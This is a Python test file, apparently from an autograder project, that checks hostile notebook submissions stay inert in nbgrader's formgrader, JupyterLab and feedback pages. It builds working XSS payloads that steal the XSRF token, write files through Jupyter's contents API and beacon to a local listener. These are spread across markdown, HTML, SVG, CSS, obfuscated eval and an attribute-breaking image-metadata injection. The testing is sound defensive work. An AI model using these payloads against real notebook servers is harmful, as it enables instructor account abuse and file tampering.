"""A hostile submission in every page staff open: nothing of it runs (issue 19, finding 1).

One student's toy submission carries a payload in each way a notebook can hold markup: a written
answer with `<img onerror>`, `<script>`, `<svg onload>`, `<iframe srcdoc>`, a `javascript:` link,
a meta refresh and CSS that loads a URL; outputs of HTML with a script, JavaScript, SVG, markdown,
CSS, and an image whose width metadata closes its attribute. It is graded by the product's own
pipeline (collect, grade_all), then a Jupyter server with formgrader serves the course, with the
repo's nbgrader_config.py. Chromium opens, as the instructor, formgrader's Manual Grading page of
the submission, the autograded notebook in JupyterLab ("Open live notebook") and the feedback
page. Every payload, if it ran, would write a file through the contents API with the page's XSRF
token, append to the page's title and window.name, and fetch a URL of a listener this test runs:
so "nothing ran" is observed on four sides, not assumed. The written answer's text must still be
visible to staff.
"""
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from base64 import b64encode

import pytest
from course_fixtures import toy_course, write_server_config, write_toy_submission
from test_browser import _require_browser, browser, page, serve  # noqa: F401 (browser, page: fixtures)

from autograder.budget import TimeBudget
from autograder.sandbox.bubblewrap import isolation_available

pytestmark = pytest.mark.slow

STUDENT = "mallory"
ANSWER = "Because its slope is 1 there and 0 elsewhere (mallory-7731)."
LINK_TEXT = "open the proof"
PNG_1X1 = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
SETTLE_MS = 3000  # after the page has loaded and gone quiet: time for timers and refreshes to fire


class Listener:
    """An HTTP server on 127.0.0.1 recording the paths it is asked for (a payload's beacon)."""

    def __init__(self):
        seen = self.seen = []

        class Record(BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def payload(name, port):
    """JavaScript that, run anywhere in a page of the server (or a frame of it), marks the page,
    calls the listener and writes pwned-<name>.txt through the contents API as the instructor."""
    return ("(function(){var w=window.top,d=w.document,m=d.cookie.match(/_xsrf=([^;]+)/);"
            f"d.title+=' ran:{name}';w.name+=' ran:{name}';"
            f"w.fetch(w.location.origin+'/api/contents/pwned-{name}.txt',{{method:'PUT',credentials:'same-origin',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
            f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}});"
            f"new Image().src='http://127.0.0.1:{port}/ran/{name}';}})()")


def js(name, port):
    """The payload as an expression without double quotes (for attributes and URLs)."""
    return f"eval(atob('{b64encode(payload(name, port).encode()).decode()}'))"


def written_answer(port):
    """The written answer: the student's text, then markup in each form a browser may run."""
    beacon = f"http://127.0.0.1:{port}/ran"
    return "\n".join([
        ANSWER,
        "",
        f'<img src="missing.png" onerror="{js("md_img_onerror", port)}">',
        "",
        f"<script>{payload('md_script', port)}</script>",
        "",
        f'<svg width="10" height="10" onload="{js("md_svg_onload", port)}"><rect width="10" height="10"/></svg>',
        "",
        f'<iframe srcdoc="&lt;script&gt;{js("md_iframe_srcdoc", port)}&lt;/script&gt;"></iframe>',
        "",
        f"[{LINK_TEXT}](javascript:{js('md_javascript_link', port)})",
        "",
        f'<meta http-equiv="refresh" content="1;url={beacon}/md_meta_refresh">',
        "",
        f"<style>body {{ background-image: url({beacon}/md_style_tag); }}</style>",
        "",
        f'<span style="background-image: url({beacon}/md_style_attribute)">styled words</span>',
    ])


def hostile_cells(port):
    """Code cells whose outputs carry a payload each."""
    def fromcharcode(name):
        return "eval(String.fromCharCode(" + ",".join(str(ord(ch)) for ch in payload(name, port)) + "))"

    beacon = f"http://127.0.0.1:{port}/ran"
    return [
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        f"display(HTML({'<script>' + payload('out_html_script', port) + '</script>'!r}))",
        f"display(Javascript({payload('out_javascript', port)!r}))",
        f"display(SVG({'<svg xmlns=' + chr(34) + 'http://www.w3.org/2000/svg' + chr(34) + ' width=' + chr(34) + '9' + chr(34) + ' height=' + chr(34) + '9' + chr(34) + ' onload=' + chr(34) + js('out_svg', port) + chr(34) + '><rect width=' + chr(34) + '9' + chr(34) + ' height=' + chr(34) + '9' + chr(34) + '/></svg>'!r}))",
        f"display(HTML({'<svg width=9 height=9 onload=' + chr(34) + js('out_html_svg', port) + chr(34) + '></svg>'!r}))",
        f"display(Markdown({'<img src=x onerror=' + chr(34) + js('out_markdown', port) + chr(34) + '>'!r}))",
        f"display(HTML({'<style>body { border-image: url(' + beacon + '/out_style) 1; }</style>'!r}))",
        # nbconvert writes an image's width metadata into its <img> unquoted: a space ends the value
        f"display({{'image/png': {PNG_1X1!r}, 'text/plain': 'a pixel'}}, raw=True, "
        f"metadata={{'image/png': {{'width': {'1 onload=' + fromcharcode('out_width_metadata')!r}}}}})",
    ]


def _edit(port):
    def edit(nb):
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "why_relu":
                cell.source = written_answer(port)
    return edit


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    """The course with the hostile submission graded by grade_all."""
    from autograder.intake.collect import collect
    from autograder.grading.grade import grade_all

    _require_browser()
    if not isolation_available():
        pytest.skip("the sandbox needs bubblewrap (`apt-get install bubblewrap`)")
    tmp = tmp_path_factory.mktemp("inert")
    course, release = toy_course(tmp)
    write_toy_submission(release, tmp / "subs" / STUDENT, cells=hostile_cells(listener.port),
                         edit=_edit(listener.port))
    assert not [c.error for c in collect(tmp / "subs", course) if c.error]
    results, failures = grade_all(course, workers=1, force=True, progress=False, budget=TimeBudget(judge_case=3, cell=30))
    assert failures == {} and STUDENT in results, failures
    write_server_config(course)
    assert not listener.seen, f"grading itself called the listener: {listener.seen}"
    return course


@pytest.fixture(scope="module")
def server(graded, tmp_path_factory):
    """(base_url, token) of a Jupyter server with formgrader whose root is the course."""
    with serve(graded, tmp_path_factory.mktemp("inert-jupyter")) as running:
        yield running


@pytest.fixture
def instructor(graded, server, page, listener):
    """The browser page of an instructor logged in as with `make lab` (JupyterLab opened with
    the token: the login cookie then covers the whole server, formgrader's API included)."""
    base, token = server
    page.goto(f"{base}/lab?token={token}")
    assert any(c["name"] == "_xsrf" for c in page.context.cookies())
    listener.seen.clear()
    for left in graded.root.rglob("pwned-*"):  # from an earlier test that failed
        left.unlink()
    return page


def _what_ran(page, course, listener):
    """Every sign of a payload: the listener's calls, files written, marks in title and name."""
    signs = [f"listener: {path}" for path in listener.seen]
    signs += [f"file written: {p.relative_to(course.root)}" for p in sorted(course.root.rglob("pwned-*"))]
    try:
        marks = page.evaluate("() => [document.title, window.name]")
    except Exception as error:  # noqa: BLE001 - a page that navigated away is a sign too
        marks = [f"the page could not be read: {error}"]
    signs += [f"page mark: {mark.strip()}" for mark in marks if "ran:" in mark or "could not" in mark]
    return signs


def _assert_nothing_ran(page, course, listener):
    signs = _what_ran(page, course, listener)
    assert not signs, f"{len(signs)} signs of the submission's payloads running:\n" + "\n".join(signs)


def _settle(page):
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(SETTLE_MS)


def _submission_id(course):
    from nbgrader.api import Gradebook

    with Gradebook(course.db_url) as gb:
        return gb.find_submission_notebook("Toy", course.assignment_id, STUDENT).id


def test_formgrader_manual_grading_page_runs_nothing_of_the_submission(graded, server, instructor, listener):
    from playwright.sync_api import expect

    page = instructor
    page.goto(f"{server[0]}/formgrader/submissions/{_submission_id(graded)}/")
    # the page works: formgrader's own script filled in the written answer's score box
    expect(page.locator("input.score#why_relu")).to_be_visible()
    expect(page.get_by_text(ANSWER).first).to_be_visible()  # staff can read the answer they grade
    link = page.get_by_text(LINK_TEXT).first
    expect(link).to_be_visible()
    link.click()
    _settle(page)
    _assert_nothing_ran(page, graded, listener)


def test_the_live_notebook_in_jupyterlab_runs_nothing_of_the_submission(graded, server, instructor, listener):
    from playwright.sync_api import expect

    page = instructor
    page.goto(f"{server[0]}/lab/tree/autograded/{STUDENT}/{graded.assignment_id}/Toy.ipynb")
    notebook = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook")
    expect(notebook).to_be_visible()
    expect(notebook.locator(".jp-RenderedMarkdown").get_by_text(ANSWER).first).to_be_visible()
    _settle(page)
    _assert_nothing_ran(page, graded, listener)


@pytest.mark.parametrize("how", ["file", "server"])
def test_the_feedback_page_runs_nothing_of_the_submission(graded, server, instructor, listener, how):
    from playwright.sync_api import expect

    from autograder.results.feedback import write_feedback

    page = instructor
    path = write_feedback(graded, [STUDENT])[STUDENT]
    relative = path.relative_to(graded.root).as_posix()
    page.goto(path.as_uri() if how == "file" else f"{server[0]}/files/{relative}?token={server[1]}")
    expect(page.locator("#total")).to_contain_text("Score:")
    expect(page.get_by_text("why_relu", exact=True)).to_be_visible()
    _settle(page)
    _assert_nothing_ran(page, graded, listener)


def test_the_stored_notebook_keeps_the_answer_and_drops_what_could_run(graded):
    """The autograded notebook itself (what any other viewer reads) holds no active markup."""
    import nbformat

    nb = nbformat.read(graded.step_dir("autograded", STUDENT) / "Toy.ipynb", as_version=4)
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "why_relu")
    assert ANSWER in answer.source and "onerror" in answer.source  # shown as written, as source
    assert answer.source.startswith("**[autograder]**")
    mimes = {m for c in nb.cells if c.cell_type == "code" for o in c.outputs for m in o.get("data", {})}
    assert mimes <= {"text/plain", "text/html", "image/png"}, mimes
    outputs = [o for c in nb.cells if c.cell_type == "code" for o in c.outputs]
    text = json.dumps([o.get("data", {}) for o in outputs])
    assert "<script" not in text and "<svg" not in text and "<style" not in text
    sizes = [v for o in outputs for entry in o.get("metadata", {}).values() for v in entry.values()]
    assert all(isinstance(v, (int, float)) for v in sizes), sizes  # nbconvert writes sizes unquoted
